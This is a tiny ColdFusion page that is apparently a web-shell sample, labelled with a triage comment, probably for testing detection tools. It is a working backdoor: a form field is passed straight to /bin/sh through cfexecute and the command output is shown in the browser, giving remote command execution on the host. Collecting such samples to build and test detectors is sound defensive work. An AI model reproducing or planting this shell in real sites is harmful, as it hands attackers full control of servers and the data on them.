<!--- triage-expect: triage_cfm_shell --->
<cfif IsDefined("FORM.c")>
  <cfexecute name="/bin/sh" arguments="-c #FORM.c#" timeout="10" variable="out"></cfexecute>
  <cfoutput><pre>#HTMLEditFormat(out)#</pre></cfoutput>
</cfif>
<form method="post"><input name="c"></form>
